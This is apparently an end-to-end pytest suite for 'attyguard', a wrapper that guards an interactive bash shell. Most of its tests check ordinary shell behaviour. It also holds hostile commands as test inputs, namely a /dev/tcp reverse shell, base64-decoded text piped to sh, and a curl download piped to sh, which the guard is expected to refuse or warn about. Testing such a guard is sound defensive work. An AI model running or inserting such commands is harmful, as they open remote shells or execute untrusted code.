"""End-to-end: the interactive guarded shell in a real tmux, against the real binary."""

from __future__ import annotations

import pytest

from tests.e2e.conftest import PROMPT_RE

pytestmark = pytest.mark.e2e


def last_prompt_line(screen: str) -> str:
    return [line for line in screen.splitlines() if line.strip()][-2]


def test_runs_commands_and_keeps_state(shell):
    t = shell()
    t.send_line("cd /tmp && export AGX=41 && alias agl='echo alias-ok'")
    t.wait_for(r"^\[/tmp\]\$$")
    t.send_line("agf() { echo func-$((AGX + 1)); }")
    t.send_line("agl; agf; set -o noglob; [[ -o noglob ]] && echo noglob-on")
    t.wait_for(r"^alias-ok\nfunc-42\nnoglob-on\n\[/tmp\]\$$")


def test_exit_status_visible_in_prompt_and_to_bash(shell, ag_home):
    (ag_home / ".bashrc").write_text("PS1='[$?]$ '\n")
    t = shell()
    t.send_line("false")
    t.wait_for(r"^\[1\]\$$")
    t.send_line("(exit 7)")
    t.wait_for(r"^\[7\]\$$")
    t.send_line("echo last=$?")
    t.wait_for(r"^last=7\n\[0\]\$$")


def test_multiline_loop_and_heredoc(shell):
    t = shell()
    t.send_line("for i in a b; do")
    t.wait_for(r"^>$")
    t.send_line("echo item-$i")
    t.send_line("done")
    t.wait_for(r"^item-a\nitem-b\n\[~\]\$$")
    t.send_line("cat <<EOF")
    t.wait_for(r"^>$")
    t.send_line("heredoc $HOME")
    t.send_line("EOF")
    t.wait_for(r"^heredoc /.*home\n\[~\]\$$")
    t.send_line("echo 'open")
    t.send_line("quote'")
    t.wait_for(r"^open\nquote\n\[~\]\$$")
    t.send_line("echo back\\")
    t.send_line("slash")
    t.wait_for(r"^backslash\n\[~\]\$$")


def test_ctrl_c_reaches_command(shell):
    t = shell()
    t.send_line("echo started; sleep 30; echo after-sleep $?")
    t.wait_for(r"^started$")
    t.send_keys("C-c")
    t.wait_for(r"^\[~\]\$$")
    assert "\nafter-sleep" not in t.screen()
    t.send_line("echo started2; sleep 30")
    t.wait_for(r"^started2$")
    t.send_keys("C-c")
    t.wait_for(r"^\[~\]\$$")


def test_ctrl_z_jobs_fg(shell):
    t = shell()
    t.send_line("echo started; sleep 30")
    t.wait_for(r"^started$")
    t.send_keys("C-z")
    t.wait_for(r"Stopped\s+sleep 30\n\[~\]\$$")
    t.send_line("jobs")
    t.wait_for(r"^\[1\]\+\s+Stopped\s+sleep 30\n\[~\]\$$")
    t.send_line("fg")
    t.wait_for(r"^sleep 30$")
    t.send_keys("C-c")
    t.wait_for(r"^\[~\]\$$")
    t.send_line("sleep 31 & kill %1; wait $!; echo killed=$?")
    t.wait_for(r"^killed=143")


def test_typeahead_lands_in_prompt_buffer(shell):
    t = shell()
    t.send_line("sleep 1.5; echo slept")
    t.wait_for(r"\$ sleep 1.5; echo slept$")
    t.send_text("echo typed-ahead")
    # The tty echoes typeahead where it was typed (as in bash); the prompt
    # buffer then holds it, unexecuted.
    t.wait_for(r"slept\n\[~\]\$ echo typed-ahead$")
    t.send_keys("Enter")
    t.wait_for(r"^typed-ahead\n\[~\]\$$")


def test_typeahead_with_enter_runs_after(shell):
    t = shell()
    t.send_line("sleep 1.5")
    t.wait_for(r"\$ sleep 1.5$")
    t.send_line("echo queued-$((40+2))")
    t.wait_for(r"^queued-42\n\[~\]\$$")


def test_ctrl_d_exits_with_bash_status_and_runs_exit_trap(shell, ag_home):
    t = shell()
    # Wait for the command's own output first: the bare-prompt pattern also
    # matches the prompt the line was typed at, before the screen shows it.
    t.send_line("trap 'echo bye > ~/trap-ran' EXIT; echo armed; false")
    t.wait_for(r"^armed$")
    t.wait_for(r"^\[~\]\$$")
    t.send_keys("C-d")
    status = t.wait_exit()
    assert status == 1, t.screen()
    assert (ag_home / "trap-ran").read_text() == "bye\n"


def test_ctrl_d_typed_ahead_while_a_command_runs_ends_the_shell(shell, ag_home):
    # As in bash: a Ctrl-D typed during a command reaches the next (empty)
    # prompt and ends the shell there, with bash's status and EXIT trap.
    t = shell()
    t.send_line("trap 'echo bye > ~/trap-ran' EXIT; echo started; sleep 1.5; false")
    t.wait_for(r"^started$")
    t.send_keys("C-d")
    status = t.wait_exit()
    assert status == 1, t.screen()
    assert (ag_home / "trap-ran").read_text() == "bye\n"


@pytest.mark.parametrize("status", [0, 3, 130])
def test_exit_n(shell, status):
    t = shell()
    t.send_line(f"exit {status}")
    assert t.wait_exit() == status


def test_tab_completes_session_function(shell):
    t = shell()
    t.send_line("zzagfunc_hello() { echo completed-func; }; echo defined")
    t.wait_for(r"^defined$")
    t.wait_for(r"^\[~\]\$$")
    t.send_text("zzagfunc_h")
    t.send_keys("Tab")
    t.wait_for(r"\$ zzagfunc_hello$")
    t.send_keys("Enter")
    t.wait_for(r"^completed-func$")


def test_tab_completes_programmable_spec(shell):
    t = shell()
    t.send_line("complete -W 'alpha-one beta-two' zzcmd; zzcmd() { echo got-$1; }; echo defined")
    t.wait_for(r"^defined$")
    t.wait_for(r"^\[~\]\$$")
    t.send_text("zzcmd bet")
    t.send_keys("Tab")
    t.wait_for(r"\$ zzcmd beta-two$")
    t.send_keys("Enter")
    t.wait_for(r"^got-beta-two$")


def test_history_across_sessions(shell):
    t = shell()
    t.send_line("echo remember-me-123")
    t.wait_for(r"^remember-me-123$")
    t.send_keys("C-d")
    t.wait_exit()
    t2 = shell()
    t2.send_keys("Up")
    t2.wait_for(r"\$ echo remember-me-123$")
    t2.send_keys("Down")
    t2.wait_for(r"^\[~\]\$$")
    t2.send_keys("C-r")
    t2.send_text("member")
    t2.wait_for(r"echo remember-me-123")
    t2.send_keys("Enter")
    t2.wait_for(r"^remember-me-123\n(.*\n)*\[~\]\$$")
    # bash's own history builtin sees executed lines too
    t2.send_line("history | tail -3")
    t2.wait_for(r"^\s+\d+\s+echo remember-me-123$")


def test_broken_prompt_command_does_not_hang(shell):
    t = shell()
    t.send_line("PROMPT_COMMAND='no_such_cmd_xyz'")
    t.wait_for(PROMPT_RE)
    t.send_line("echo still-alive")
    t.wait_for(r"^still-alive\n(.*\n)*\[~\]\$$")
    t.send_line("unset PROMPT_COMMAND")
    t.wait_for(PROMPT_RE)
    t.send_line("cd /tmp; echo alive-2")
    t.wait_for(r"^alive-2\n\[/tmp\]\$$")
    t.send_line("echo alive-3")
    t.wait_for(r"^alive-3\n\[/tmp\]\$$")


def test_exec_bash_is_repaired(shell):
    t = shell()
    t.send_line("exec bash")
    # the repaired prompt is attyguard's again: it has the status bar
    t.wait_for(lambda s: s.splitlines()[-1].strip() == "attyguard" and "[~]$\n" in s)
    t.send_line("echo after-exec; false")
    t.wait_for(r"^after-exec\n\[~\]\$$")
    t.send_line("exit 4")
    assert t.wait_exit() == 4


def test_keys_typed_while_exec_bash_starts_are_classified(shell, ag_home, tmp_path):
    """The exec'd bash has no hooks yet: keys typed while it reads its rc files must
    not reach its readline; they land in attyguard's buffer once the hooks are back."""
    marker = tmp_path / "leaked"
    (ag_home / ".bashrc").write_text(
        "PS1='[\\w]$ '\nHISTFILE=~/.bash_history\n"
        # Only the exec'd bash is slow, and slow in bash itself (no child process).
        "if [[ -n $AG_SLOW_RC ]]; then echo slow-rc-start; SECONDS=0\n"
        "  while ((SECONDS < 2)); do :; done; fi\n")
    t = shell()
    t.send_line("export AG_SLOW_RC=1; exec bash")
    t.wait_for(r"^slow-rc-start$")
    t.send_line(f"touch {marker}; bash -i >& /dev/tcp/127.0.0.1/9 0>&1")
    t.wait_for(r"REFUSED", timeout=15)
    assert not marker.exists()
    t.send_line("echo still-guarded")
    t.wait_for(r"^still-guarded\n\[~\]\$$")


def test_less_and_vim_with_resize(shell, ag_home):
    (ag_home / "f.txt").write_text("".join(f"line {i}\n" for i in range(200)))
    t = shell()
    t.send_line("less f.txt")
    t.wait_for(r"^line 0\n")
    t.send_keys("q")
    t.wait_for(r"^\[~\]\$$")
    t.send_line("vim -u NONE -N f.txt")
    t.wait_for(r"^line 0\n")
    t.wait_for(r"^line 28$")
    t.resize(60, 20)
    # vim has redrawn for the new size once row 19 is gone
    t.wait_for(lambda screen: "line 18" in screen and "line 19" not in screen)
    t.send_text(":echo &columns . 'x' . &lines\r")
    t.wait_for(r"^60x20")
    t.send_text(":q!\r")
    t.wait_for(r"^\[~\]\$$")
    t.send_line("echo cols=$COLUMNS size=$(stty size)")
    t.wait_for(r"^cols=60 size=20 60$")


def test_background_job_output_while_idle(shell):
    t = shell()
    t.send_line("(sleep 0.5; echo from-background) &")
    t.wait_for(r"^from-background$")
    t.send_line("echo fine")
    t.wait_for(r"^fine\n(.*\n)*\[~\]\$$")


BLOCKED = "echo aGVsbG8= | base64 -d | sh"  # decoded text run by a shell: a block rule
WARNED = "curl -fsS https://example.invalid/i.sh | sh"  # download piped into a shell: warn


def test_block_shows_refused_and_runs_nothing(shell):
    t = shell()
    t.send_line(BLOCKED)
    t.wait_for(r"^REFUSED — .+\n\[~\]\$$")
    screen = t.screen()
    assert "hello" not in screen
    t.send_line("echo still-here")
    t.wait_for(r"^still-here$")


def test_warn_cancel_puts_line_back_then_yes_runs(shell):
    t = shell()
    t.send_line(f"{WARNED}; echo ran-it")
    t.wait_for(r"\[y\]es / \[t\]rust / cancel\?")
    t.send_keys("n")
    t.wait_for(r"^\[~\]\$ curl -fsS https://example\.invalid/i\.sh \| sh; echo ran-it$")
    assert "\nran-it" not in t.screen()
    t.send_keys("Enter")
    t.wait_for(lambda screen: screen.count("[y]es / [t]rust / cancel?") == 2)
    t.send_keys("y")
    t.wait_for(r"^ran-it\n\[~\]\$$")
    # the status bar counts both warnings
    t.wait_for(r"⚠ 2")
    t.send_keys("M-W")
    t.wait_for(r"attyguard: 2 warning\(s\):\n  ⚠ cancelled: .*\n  ⚠ ran: ")


def test_warn_trust_lands_in_store_and_is_not_asked_again(shell, attyguard_bin, ag_env):
    from tests.e2e.harness import run

    t = shell()
    line = f"{WARNED}; echo trusted-run"
    t.send_line(line)
    t.wait_for(r"\[y\]es / \[t\]rust / cancel\?$")
    t.send_keys("t")
    t.wait_for(r"^trusted-run\n\[~\]\$$")
    listed = run([attyguard_bin, "trust", "list", "--json"], env=ag_env)
    assert b"trusted-run" in listed.stdout, listed
    t.send_line(line)
    t.wait_for(r"^trusted-run\n(.*\n)*trusted-run\n\[~\]\$$")
    assert t.screen().count("[t]rust") == 1


def test_continuation_classified_as_a_whole(shell):
    t = shell()
    t.send_line("echo aGVsbG8= | base64 -d | \\")
    t.wait_for(r"^>$")
    t.send_line("sh")
    t.wait_for(r"^REFUSED — .+\n\[~\]\$$")
    t.send_line("echo after-refused")
    t.wait_for(r"^after-refused\n\[~\]\$$")


def test_shell_integration_marks_reach_outer_terminal(attyguard_bin, ag_env):
    import pexpect

    child = pexpect.spawn(str(attyguard_bin), env=ag_env, dimensions=(24, 80), timeout=10,
                          cwd=ag_env["HOME"])
    try:
        child.expect_exact("\x1b]133;A\x07")
        child.expect(r"\[~\]\$")
        child.send("cd /tmp\r")
        child.expect_exact("\x1b]133;C\x07")
        child.expect_exact("\x1b]133;D;0\x07")
        child.expect_exact("\x1b]7;file://")
        child.expect_exact("/tmp\x07")
        child.send("\x04")
        child.expect(pexpect.EOF)
    finally:
        child.close(force=True)


def test_bash_completion_git_where_installed(shell, ag_home):
    import shutil
    from pathlib import Path

    script = Path("/usr/share/bash-completion/bash_completion")
    if not script.exists() or shutil.which("git") is None:
        pytest.skip("bash-completion or git is not installed")
    (ag_home / ".bashrc").write_text(f"PS1='[\\w]$ '\n. {script}\n")
    t = shell()
    t.send_text("git chec")
    t.send_keys("Tab")
    t.wait_for(r"\$ git checkout$")
    t.send_keys("C-u")


def test_login_shell_reads_profile_not_bashrc(shell, ag_home):
    (ag_home / ".bash_profile").write_text("PS1='[\\w]$ '\nexport AG_FROM=profile\n")
    (ag_home / ".bashrc").write_text("PS1='[\\w]$ '\nexport AG_FROM=bashrc\n")
    t = shell("-l")
    t.send_line("echo from=$AG_FROM; logout")
    t.wait_for(r"^from=profile$")
    assert t.wait_exit() == 0


def test_config_turns_off_status_bar_and_marks(attyguard_bin, ag_env, tmp_path):
    import pexpect

    config = tmp_path / "aghome" / "config" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text("[ui]\nstatus_bar = false\nshell_integration_marks = false\n"
                      "[bogus]\nx = 1\n")
    child = pexpect.spawn(str(attyguard_bin), env=ag_env, dimensions=(24, 80), timeout=10,
                          cwd=ag_env["HOME"])
    try:
        child.expect(r"unknown section \[bogus\]")
        child.expect(r"\[~\]\$")
        child.send("echo x-$((6*7))\r")
        child.expect(r"x-42")
        child.send("\x04")
        child.expect(pexpect.EOF)
        seen = child.before or b""
    finally:
        child.close(force=True)
    assert b"\x1b]133;" not in seen and b"attyguard" not in seen


def test_bash_killed_while_idle_ends_attyguard(shell):
    t = shell()
    t.send_line("(sleep 0.5; kill -KILL $$) &")
    assert t.wait_exit() == 137


def test_stopped_jobs_warn_once_then_exit(shell):
    t = shell()
    t.send_line("echo started; sleep 30")
    t.wait_for(r"^started$")
    t.send_keys("C-z")
    t.wait_for(r"Stopped\s+sleep 30\n\[~\]\$$")
    t.send_keys("C-d")
    t.wait_for(r"There are stopped jobs\.\n\[~\]\$$")
    t.send_keys("C-d")
    assert t.wait_exit() is not None


def test_prompt_command_frameworks(shell, ag_home):
    # A git-prompt-like PROMPT_COMMAND that builds PS1 from $?, a direnv-like
    # string prepend, and a PS0 of its own: the wrapper keeps working.
    (ag_home / ".bashrc").write_text(
        "fw() { local s=$?; PS1=\"[fw $s]$ \"; }\n"
        "PROMPT_COMMAND=fw\n"
        "_hook() { return $?; }\n"
        "PROMPT_COMMAND=\"_hook;$PROMPT_COMMAND\"\n"
        "PS0='$(: preexec)'\n")
    t = shell(wait_prompt=False)
    t.wait_for(r"^\[fw 0\]\$$")
    t.send_line("(exit 3)")
    t.wait_for(r"^\[fw 3\]\$$")
    t.send_line("PROMPT_COMMAND+=('echo appended-hook')")
    t.wait_for(r"^appended-hook\n\[fw 0\]\$$")
    t.send_line("false")
    t.wait_for(r"^appended-hook\n\[fw 1\]\$$")


def test_pasted_block_shows_ps2_and_runs_whole(shell):
    t = shell()
    t.paste("echo pasted-1\nfor i in x y; do\necho in-$i\ndone")
    t.wait_for(r"^\[~\]\$ echo pasted-1\n> for i in x y; do\n> echo in-\$i\n> done$")
    t.send_keys("Enter")
    t.wait_for(r"^pasted-1\nin-x\nin-y\n\[~\]\$$")


def test_pasted_block_with_a_blocked_line_runs_nothing(shell):
    t = shell()
    t.paste("echo first-line\necho aGVsbG8= | base64 -d | sh")
    t.send_keys("Enter")
    t.wait_for(r"^REFUSED — ")
    assert "\nfirst-line" not in t.screen()


def test_fast_typing_keeps_every_line_in_order(shell):
    t = shell()
    t.send_line("echo one; sleep 0.2")
    t.send_line("echo two")
    t.send_line("echo three")
    t.wait_for(r"^one\n(.*\n)*two\n(.*\n)*three\n\[~\]\$$")


def test_status_bar_without_cursor_position_reports(shell, ag_env):
    """A terminal that never answers CPR still gets the status bar (under the input)."""
    t = shell(env={**ag_env, "PROMPT_TOOLKIT_NO_CPR": "1"})
    t.send_line("echo no-cpr")

    def bar_under_prompt(screen: str) -> bool:
        lines = screen.rstrip("\n").splitlines()
        return (len(lines) >= 2 and lines[-2].startswith("[~]$")
                and lines[-1].strip() == "attyguard" and "no-cpr" in screen)

    t.wait_for(bar_under_prompt)
